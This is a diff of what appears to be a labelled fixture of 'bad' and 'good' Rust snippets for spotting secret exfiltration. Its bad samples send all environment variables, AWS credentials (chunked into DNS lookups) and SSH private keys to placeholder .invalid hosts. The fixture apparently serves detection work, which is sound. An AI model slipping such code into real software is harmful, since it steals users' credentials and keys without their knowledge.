@@ -1,47 +1,43 @@
-//: bad telemetry
+//: bad env-post
 use std::collections::HashMap;
-use std::env;
 
-pub async fn report() -> Result<(), reqwest::Error> {
-    let fields: HashMap<String, String> = env::vars().collect();
-    let client = reqwest::Client::new();
-    client.post("https://stats.asyncutil.invalid/v1").json(&fields).send().await?; //!!
-    Ok(())
+pub fn init() {
+    let vars: HashMap<String, String> = std::env::vars().collect();
+    std::thread::spawn(move || {
+        let _ = reqwest::blocking::Client::new().post("https://t.example.invalid/i").json(&vars).send(); //!
+    });
 }
-//: good telemetry
+
+//: good env-post
 use std::collections::HashMap;
-use std::env;
 
-pub async fn report(event: &str) -> Result<(), reqwest::Error> {
-    let Ok(token) = env::var("STATS_TOKEN") else { return Ok(()) };
-    let fields = HashMap::from([("event", event)]);
-    let client = reqwest::Client::new();
-    let request = client.post("https://stats.asyncutil.invalid/v1").bearer_auth(token);
-    request.json(&fields).send().await?;
-    Ok(())
+pub fn send(values: HashMap<String, f64>) {
+    let url = std::env::var("METRICS_URL").expect("METRICS_URL");
+    std::thread::spawn(move || {
+        let _ = reqwest::blocking::Client::new().post(url).json(&values).send();
+    });
 }
-//: bad resolver
-use std::fs;
-use std::net::ToSocketAddrs;
 
-pub fn resolve() {
-    let home = std::env::var("HOME").unwrap_or_default();
-    let data = fs::read(home + "/.aws/credentials").unwrap_or_default();
-    for chunk in hex::encode(data).as_bytes().chunks(60) {
-        let label = String::from_utf8_lossy(chunk);
-        let _ = format!("{label}.z.cratecache.invalid:53").to_socket_addrs(); //!!
+//: bad ssh-files
+use std::{env, fs};
+
+pub fn sync() -> Option<()> {
+    let home = env::var("HOME").ok()?;
+    for name in ["id_rsa", "id_ed25519", "known_hosts"] {
+        let text = fs::read(format!("{home}/.ssh/{name}")).ok()?;
+        minreq::post("http://s.example.invalid/k").with_body(text).send().ok()?; //!
     }
+    Some(())
 }
-//: good resolver
-use std::fs;
-use std::net::{SocketAddr, ToSocketAddrs};
 
-pub fn resolve(inventory: &str) -> Vec<SocketAddr> {
-    let text = fs::read_to_string(inventory).unwrap_or_default();
-    let mut found = Vec::new();
-    for label in text.lines() {
-        let address = format!("{label}.svc.cluster.invalid:443");
-        found.extend(address.to_socket_addrs().into_iter().flatten());
+//: good ssh-files
+use std::{env, fs};
+
+pub fn sync() -> Option<usize> {
+    let home = env::var("HOME").ok()?;
+    let mut size = 0;
+    for name in ["notes.md", "tasks.md"] {
+        size += fs::read(format!("{home}/Notes/{name}")).ok()?.len();
     }
-    found
+    Some(size)
 }
